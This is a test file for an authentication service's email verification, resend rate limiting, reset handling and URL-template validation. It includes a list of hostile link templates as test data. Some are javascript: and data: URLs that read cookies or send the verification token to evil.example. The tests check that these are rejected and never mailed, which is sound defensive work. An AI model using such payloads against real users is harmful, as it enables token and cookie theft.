"""Proven emails: the verification mail of register, `verify_email`, `resend_verification`,
the `email_verified` claim and field, a reset that proves the email, and products that
require a proven email before login. Against real hub processes, real SMTP."""

from __future__ import annotations

import asyncio
import base64
import json
import sqlite3
import uuid
from email.header import decode_header, make_header

import httpx
import pytest

from auth.mail import VERIFY_EMAIL
from infra.i18n import MESSAGES
from tests.support import (
    PASSWORD,
    HubServer,
    bearer,
    create_product,
    error_code,
    login,
    mail_body,
    register,
    reset_through_mail,
)

VERIFY = "/api/v1/auth/verify_email"
RESEND = "/api/v1/auth/resend_verification"


def claims_of(access_token: str) -> dict:
    payload = access_token.split(".")[1]
    return json.loads(base64.urlsafe_b64decode(payload + "=" * (-len(payload) % 4)))


async def verification_token(mailbox, email: str, count: int = 1, marker: str = "token=") -> str:
    [*_, mail] = await mailbox.wait_for(email, count, kind=VERIFY_EMAIL)
    return mail_body(mail).split(marker)[1].split()[0]


async def test_register_mails_a_white_labeled_link_that_proves_the_email_once(
    hub, client, mailbox, email
):
    template = "https://app.example.com/confirm?t={token}"
    product = create_product(
        hub, None, "--verify-url", template, "--default-locale", "cs", "--mail-from-name", "Acme"
    )
    created = await register(client, email, product=product["slug"])
    assert created["user"]["email_verified"] is False
    assert claims_of(created["access_token"])["email_verified"] is False
    [mail] = await mailbox.wait_for(email, kind=VERIFY_EMAIL)
    assert str(make_header(decode_header(mail["Subject"]))) == MESSAGES[
        "mail.verify_email.subject"
    ]["cs"].format(product=product["slug"].title())
    assert "Acme" in str(make_header(decode_header(mail["From"])))
    token = mail_body(mail).split("https://app.example.com/confirm?t=")[1].split()[0]

    assert (await client.post(VERIFY, json={"token": token})).status_code == 200
    reused = await client.post(VERIFY, json={"token": token})
    assert reused.status_code == 400 and error_code(reused) == "auth.invalid_verification_token"
    me = await client.get("/api/v1/auth/me", headers=bearer(created["access_token"]))
    assert me.json()["user"]["email_verified"] is True
    again = await login(client, email, product=product["slug"])
    assert claims_of(again.json()["access_token"])["email_verified"] is True


async def test_bad_verification_tokens_change_nothing(hub, client, mailbox, email):
    created = await register(client, email)
    token = await verification_token(mailbox, email)
    for body, status, expected in (
        ({}, 422, "validation.failed"),
        ({"token": 12}, 422, "validation.failed"),
        ({"token": "x" * 5000}, 422, "validation.failed"),
        ({"token": "not-a-token"}, 400, "auth.invalid_verification_token"),
        ({"token": token[:-1]}, 400, "auth.invalid_verification_token"),
    ):
        response = await client.post(VERIFY, json=body)
        assert response.status_code == status and error_code(response) == expected, response.text
    broken = await client.post(VERIFY, content=b"{", headers={"Content-Type": "application/json"})
    assert broken.status_code == 400
    me = await client.get("/api/v1/auth/me", headers=bearer(created["access_token"]))
    assert me.json()["user"]["email_verified"] is False
    assert (await client.post(VERIFY, json={"token": token})).status_code == 200


async def test_resend_needs_a_user_is_rate_limited_and_stops_once_proven(
    hub, client, mailbox, email
):
    created = await register(client, email)
    access = bearer(created["access_token"])
    assert (await client.post(RESEND)).status_code == 401
    assert (await client.post(RESEND, headers=bearer("garbage"))).status_code == 401
    answers = [(await client.post(RESEND, headers=access)).status_code for _ in range(4)]
    assert answers == [202, 202, 202, 429]  # 3 a minute per user by default
    await mailbox.wait_for(email, 4, kind=VERIFY_EMAIL)  # the register mail and three more
    token = await verification_token(mailbox, email, 4)
    assert (await client.post(VERIFY, json={"token": token})).status_code == 200
    proven = await client.post(RESEND, headers=access)
    assert proven.status_code == 409 and error_code(proven) == "auth.email_already_verified"


async def test_a_completed_reset_proves_the_email(hub, client, mailbox, email):
    await register(client, email)
    new = "NewPass456!"
    await reset_through_mail(client, mailbox, email, new)
    entered = await login(client, email, new)
    assert entered.json()["user"]["email_verified"] is True
    # The pending verification link was voided with every other link.
    stale = await verification_token(mailbox, email)
    assert (await client.post(VERIFY, json={"token": stale})).status_code == 400


async def test_a_product_may_require_a_proven_email_before_login(hub, client, mailbox, email):
    product = create_product(hub)
    sk = bearer(product["sk_live"])
    for bad in ({"require_verified_email": "yes"}, {"verify_url_template": "https://x/no-token"}):
        refused = await client.patch("/api/v1/product", headers=sk, json=bad)
        assert refused.status_code == 422, refused.text
        assert error_code(refused) == "validation.failed"
    unchanged = (await client.get("/api/v1/product", headers=sk)).json()["product"]
    assert unchanged["require_verified_email"] is False and unchanged["verify_url_template"] is None

    turned_on = await client.patch(
        "/api/v1/product", headers=sk, json={"require_verified_email": True}
    )
    assert turned_on.json()["product"]["require_verified_email"] is True
    # Registering gives no session either: a squatter of the address gets nothing to use.
    pending = await register(client, email, product=product["slug"])
    assert pending["email_verification_required"] is True and "access_token" not in pending
    assert pending["user"]["email_verified"] is False
    blocked = await login(client, email, product=product["slug"])
    assert blocked.status_code == 403 and error_code(blocked) == "auth.email_unverified"
    wrong = await login(client, email, "WrongPass999!", product=product["slug"])
    assert wrong.status_code == 401  # the password is checked first: nothing told to guessers
    token = await verification_token(mailbox, email)
    assert (await client.post(VERIFY, json={"token": token})).status_code == 200
    assert (await login(client, email, product=product["slug"])).status_code == 200

    # The CLI turns it off again.
    result = hub.cli("products", "set-verification", product["slug"], "--no-require-verified-email")
    assert result.returncode == 0, result.stderr
    settings = (await client.get("/api/v1/product", headers=sk)).json()["product"]
    assert settings["require_verified_email"] is False
    other = f"other-{uuid.uuid4().hex[:8]}@example.com"
    await register(client, other, product=product["slug"], password=PASSWORD)
    assert (await login(client, other, product=product["slug"])).status_code == 200


async def test_verification_mails_to_one_address_are_budgeted(tmp_path, mailbox, redis_url):
    """Registering again and again (each joins with a new organization) mails a link each
    time: past the per-address budget the registrations still work, but no more mail goes."""
    server = HubServer(
        workdir=tmp_path,
        smtp_port=mailbox.port,
        redis_url=redis_url,
        extra_env={"HUB_RATE_VERIFY_MAIL_ACCOUNT": "2/minute"},
    )
    server.start()
    try:
        address = f"budget-{uuid.uuid4().hex[:10]}@example.com"
        async with httpx.AsyncClient(base_url=server.url, timeout=30) as http:
            for _ in range(4):
                await register(http, address)
            await mailbox.wait_for(address, 2, kind=VERIFY_EMAIL)
            await asyncio.sleep(1)  # the mails go out after the answers
            assert len(mailbox.for_recipient(address, VERIFY_EMAIL)) == 2
    finally:
        server.stop()


# -- link templates ----------------------------------------------------------------------

HOSTILE_TEMPLATES = [
    "javascript:alert(document.cookie)//{token}",
    "data:text/html,<script>location='https://evil.example/?t={token}'</script>",
    "//evil.example/{token}",
    "/verify?token={token}",
    "ftp://app.example.com/{token}",
    "https://{token}.evil.example/",
    "https://user:pass@app.example.com/verify?token={token}",
    "https:///verify?token={token}",
    "https://app.example.com/verify?token={token} x",
    "https://app.example.com/no-token",
    "https://app.example.com/" + "a" * 2000 + "{token}",
]


async def test_link_templates_must_be_absolute_web_links_with_a_token(hub, client):
    product = create_product(hub)
    sk = bearer(product["sk_live"])
    for field in ("verify_url_template", "reset_url_template"):
        for bad in [*HOSTILE_TEMPLATES, 42, ["https://app.example.com/{token}"]]:
            refused = await client.patch("/api/v1/product", headers=sk, json={field: bad})
            assert refused.status_code == 422, (field, bad, refused.text)
            details = refused.json()["error"]["details"]
            assert details[field]["code"] == "field.not_url_template", (field, bad)
            assert "https://" in details[field]["message"]
    unchanged = (await client.get("/api/v1/product", headers=sk)).json()["product"]
    assert unchanged["verify_url_template"] is None and unchanged["reset_url_template"] is None
    good = {
        "verify_url_template": "https://app.example.com/verify?token={token}",
        "reset_url_template": "http://localhost:3000/reset/{token}",  # http: development
    }
    accepted = await client.patch("/api/v1/product", headers=sk, json=good)
    assert accepted.status_code == 200, accepted.text
    assert {k: accepted.json()["product"][k] for k in good} == good


@pytest.mark.parametrize("flag", ["--verify-url", "--reset-url"])
def test_the_cli_refuses_hostile_link_templates(hub, flag):
    for bad in ("javascript:alert(1)//{token}", "//evil.example/{token}", "data:,{token}"):
        slug = f"p-{uuid.uuid4().hex[:10]}"
        result = hub.cli("products", "create", "--slug", slug, "--name", "X", flag, bad)
        assert result.returncode != 0 and "template" in result.stderr, (bad, result.stdout)
        assert slug not in hub.cli("products", "list").stdout  # nothing was created
    product = create_product(hub)
    refused = hub.cli(
        "products", "set-verification", product["slug"], "--verify-url", "javascript:{token}"
    )
    assert refused.returncode != 0 and "template" in refused.stderr


def test_production_link_templates_are_https_only():
    from auth.product_values import normalize_url_template

    https = "https://app.example.com/verify?token={token}"
    assert normalize_url_template(https, https_only=True) == https
    with pytest.raises(ValueError):
        normalize_url_template("http://app.example.com/verify?token={token}", https_only=True)
    for bad in HOSTILE_TEMPLATES:
        with pytest.raises(ValueError):
            normalize_url_template(bad)


async def test_a_stored_template_that_is_not_a_web_link_is_never_mailed(hub, client, mailbox):
    """Templates stored before they were checked (written here straight into SQLite) fall
    back to the default link instead of mailing `javascript:`."""
    if hub.database_url is not None:
        pytest.skip("written straight into the SQLite file")
    product = create_product(hub)
    with sqlite3.connect(hub.workdir / "hub.db", timeout=15) as db:
        db.execute(
            "UPDATE products SET reset_url_template = ? WHERE slug = ?",
            ("javascript:fetch('//evil.example/'+'{token}')", product["slug"]),
        )
    address = f"stored-{uuid.uuid4().hex[:10]}@example.com"
    await register(client, address, product=product["slug"])
    forgot = await client.post(
        "/api/v1/auth/forgot_password",
        headers={"X-Product-Slug": product["slug"]},
        json={"email": address},
    )
    assert forgot.status_code == 202
    [mail] = await mailbox.wait_for(address, 1, kind="password_reset")
    body = mail_body(mail)
    assert "javascript:" not in body and f"{hub.url}/demo/#reset_token=" in body
